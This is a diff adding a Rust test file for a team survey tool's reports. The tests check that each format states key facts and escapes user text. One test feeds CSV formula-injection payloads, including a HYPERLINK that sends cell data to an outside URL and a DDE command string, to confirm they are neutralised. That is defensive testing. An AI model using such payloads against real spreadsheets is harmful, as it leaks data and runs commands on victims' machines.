@@ -1,0 +1,222 @@
+//! What every format says, and how it keeps words from being taken for something else.
+
+use pulse_check::instrument::builtin;
+use pulse_check::picture::{Form, Sheet};
+use pulse_check::report::{Asked, Question, csv, json, markdown, text};
+use pulse_check::text::{Lang, RESULT};
+
+use crate::{all_formats, cell, cells, instrument, past_of, policy, promise, report, view_of};
+
+const ANSWERS: [&[u8]; 3] =
+    [&[4, 4, 5, 3, 4, 4, 3], &[2, 2, 1, 2, 3, 2, 2], &[2, 2, 1, 0, 0, 0, 2]];
+
+#[test]
+fn every_format_says_how_many_when_what_the_promise_and_that_numbers_are_rounded() {
+    let asked = instrument();
+    let few: [&[u8]; 3] = [&[4; 4], &[4; 4], &[2; 4]];
+    for (answers, people) in [(ANSWERS, "7"), (few, "4")] {
+        let view = view_of(&asked, &answers, &policy(), None);
+        for lang in Lang::ALL {
+            let title = asked.title().get(lang.tag()).unwrap();
+            for (format, text) in all_formats(&report(&view, lang)) {
+                for said in [people, "2026-11-24", title, "Orchard", RESULT.get(lang).rounded] {
+                    assert!(text.contains(said), "{format} does not say {said}:\n{text}");
+                }
+                for sentence in promise(lang) {
+                    assert!(text.contains(&sentence), "{format} does not say {sentence}");
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn a_picture_that_leaves_by_itself_says_it_too() {
+    let asked = instrument();
+    let view = view_of(&asked, &ANSWERS, &policy(), None);
+    for lang in Lang::ALL {
+        let report = report(&view, lang);
+        let drawing = report.captioned(report.overview(Sheet::PHONE), Sheet::PHONE);
+        let words: Vec<&str> = drawing
+            .shapes
+            .iter()
+            .filter_map(|shape| match &shape.form {
+                Form::Text { text, .. } => Some(text.as_str()),
+                _ => None,
+            })
+            .collect();
+        let words = words.join(" ");
+        let title = asked.title().get(lang.tag()).unwrap();
+        for said in ["7 ", "2026-11-24", title, "Orchard", RESULT.get(lang).rounded] {
+            assert!(drawing.label.contains(said) && words.contains(said), "{said} in {words}");
+        }
+        for sentence in promise(lang) {
+            assert!(drawing.label.contains(&sentence) && words.contains(&sentence), "{words}");
+        }
+    }
+}
+
+#[test]
+fn actions_are_said_with_their_day() {
+    let view = view_of(&instrument(), &ANSWERS, &policy(), None);
+    for lang in Lang::ALL {
+        for (format, text) in all_formats(&report(&view, lang)) {
+            let what = text.find("Ask for help at the daily meeting");
+            assert!(what.is_some() && text.contains("2026-12-08"), "{format}:\n{text}");
+        }
+    }
+}
+
+#[test]
+fn a_report_is_made_without_the_questionnaire_too() {
+    let view = view_of(&instrument(), &ANSWERS, &policy(), None);
+    let archived = pulse_check::report::Report {
+        asked: Asked {
+            title: "How was the sprint?".to_owned(),
+            dimensions: vec!["Focus".to_owned()],
+            ..Asked::default()
+        },
+        ..report(&view, Lang::En)
+    };
+    let said = text(&archived);
+    assert!(said.contains("- Focus: 4.") && said.contains("- help: not shown."), "{said}");
+    assert!(
+        said.contains("How often each answer was chosen: 1: 0; 2: 0; 3: 2; 4 to 5: 5"),
+        "{said}"
+    );
+}
+
+#[test]
+fn a_change_is_said_as_a_verdict() {
+    let asked = instrument();
+    let past = past_of(&asked, &[&[2, 2, 3, 2, 2, 3, 2][..]; 3], &policy());
+    let up = view_of(&asked, &[&[4, 5, 4, 4, 5, 4, 4], &[4; 7], &[2; 7]], &policy(), Some(&past));
+    let said = |lang| text(&report(&up, lang));
+    assert!(
+        said(Lang::En).contains("- The team’s level: clearly up (1 higher than last time)"),
+        "{}",
+        said(Lang::En)
+    );
+    assert!(
+        said(Lang::De)
+            .contains("- Das Niveau des Teams: deutlich gestiegen (1 höher als beim letzten Mal)")
+    );
+    assert_eq!(cell(&csv(&report(&up, Lang::De)), "headline", "", "level"), "clearly up");
+    let same = view_of(&asked, &[&[2, 2, 3, 2, 2, 3, 2][..]; 3], &policy(), Some(&past));
+    let said = text(&report(&same, Lang::En));
+    assert!(said.contains("- The team’s level: can’t tell whether it moved\n"), "{said}");
+    assert!(!said.contains("unchanged") && !said.contains("no change"));
+}
+
+/// A spreadsheet would run what begins like a formula, and send data away with it.
+#[test]
+fn no_typed_cell_begins_like_a_formula() {
+    let view = view_of(&instrument(), &ANSWERS, &policy(), None);
+    let mut report = report(&view, Lang::En);
+    report.occasion.team = "=HYPERLINK(\"https://example.org/?\"&A1)".to_owned();
+    report.occasion.round = "\t=1+1".to_owned();
+    report.occasion.promise = vec!["@SUM(A1)".to_owned(), "\r\n-1".to_owned()];
+    report.asked.title = "＝1+1".to_owned();
+    report.asked.dimensions = vec!["+1".to_owned(), "-1".to_owned()];
+    report.actions[0].what = "=cmd|' /C calc'!A0".to_owned();
+    let table = csv(&report);
+    for cell in cells(&table).into_iter().flatten() {
+        let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
+        assert!(!formula, "{cell}");
+    }
+    assert_eq!(cell(&table, "headline", "", "team"), "'=HYPERLINK(\"https://example.org/?\"&A1)");
+    assert_eq!(cell(&table, "dimension", "help", "name"), "'-1");
+}
+
+#[test]
+fn a_difference_stays_a_number() {
+    let asked = instrument();
+    let past = past_of(&asked, &[&[4; 7], &[4; 7], &[2; 7]], &policy());
+    let view = view_of(&asked, &[&[3; 7], &[4; 7], &[2; 7]], &policy(), Some(&past));
+    let table = csv(&report(&view, Lang::De));
+    assert_eq!(cell(&table, "dimension", "focus", "difference"), "-1");
+    assert_eq!(cell(&table, "dimension", "help", "difference"), "0");
+}
+
+#[test]
+fn every_row_of_a_table_has_a_cell_for_every_column() {
+    let view = view_of(&instrument(), &ANSWERS, &policy(), None);
+    let mut report = report(&view, Lang::En);
+    report.asked.dimensions[0] = "a, \"b\"\r\nc; d | e".to_owned();
+    let rows = cells(&csv(&report));
+    assert!(rows.iter().all(|row| row.len() == rows[0].len()));
+    assert_eq!(cell(&csv(&report), "dimension", "focus", "name"), "a, \"b\" c; d | e");
+    let kinds: Vec<&str> = rows.iter().map(|row| row[0].as_str()).collect();
+    assert_eq!(
+        kinds,
+        [
+            "kind",
+            "headline",
+            "dimension",
+            "dimension",
+            "question",
+            "question",
+            "question",
+            "action",
+            "promise",
+            "promise",
+            "note"
+        ]
+    );
+}
+
+#[test]
+fn names_in_markdown_are_read_as_they_are() {
+    let view = view_of(&instrument(), &ANSWERS, &policy(), None);
+    let mut report = report(&view, Lang::En);
+    let name = "a|b *c* _d_ <e> [f](g) `h` \\i &amp; ~~j~~ $k$";
+    report.occasion.team = name.to_owned();
+    report.occasion.promise = vec!["# a".to_owned(), "- b".to_owned(), "1. c".to_owned()];
+    report.asked.dimensions[0] = name.to_owned();
+    let said = markdown(&report);
+    let escaped = r"a\|b \*c\* \_d\_ \<e\> \[f\](g) \`h\` \\i \&amp; \~\~j\~\~ \$k\$";
+    assert!(said.starts_with(&format!("# {escaped} – Autumn\n")), "{said}");
+    assert!(said.contains(&format!("| {escaped} | 4 | ")), "{said}");
+    for line in [r"- \# a", r"- \- b", r"- 1\. c"] {
+        assert!(said.contains(&format!("{line}\n")), "{line} in {said}");
+    }
+    let columns = |line: &str| line.replace(r"\|", "").matches('|').count();
+    let rows: Vec<usize> = said.lines().filter(|line| line.starts_with('|')).map(columns).collect();
+    assert!(rows.iter().all(|columns| *columns == 4), "{rows:?}");
+}
+
+#[test]
+fn a_line_stays_a_line() {
+    let view = view_of(&instrument(), &ANSWERS, &policy(), None);
+    let mut report = report(&view, Lang::En);
+    let lines = |report: &pulse_check::report::Report| {
+        [text(report), markdown(report), csv(report)].map(|text| text.lines().count())
+    };
+    let before = lines(&report);
+    report.asked.questions[0] =
+        Question { text: "One\u{2028}\nTwo\u{0}\u{b}".to_owned(), reversed: false };
+    report.occasion.round = "Three\r\n\r\nFour".to_owned();
+    assert_eq!(lines(&report), before);
+    assert!(text(&report).starts_with("Orchard – Three Four\n"));
+    assert!(json(&report).contains("\"One Two\""));
+}
+
+/// Every built-in questionnaire, in both languages, goes through every format.
+#[test]
+fn built_in_questionnaires_leave_the_room() {
+    for id in ["safety", "trust", "leadership", "rebuilding"] {
+        let asked = builtin::with_id(id).unwrap();
+        let answers = vec![&[4, 4, 3, 4, 5, 4, 4][..]; asked.items().len()];
+        let view = view_of(&asked, &answers, &policy(), None);
+        for lang in Lang::ALL {
+            let mut report = report(&view, lang);
+            report.asked = Asked::of(&asked, lang.tag());
+            for (format, text) in all_formats(&report) {
+                for item in asked.items() {
+                    let said = item.text().get(lang.tag()).unwrap().trim_end_matches('.');
+                    assert!(text.contains(said), "{format} lacks {said}");
+                }
+            }
+        }
+    }
+}
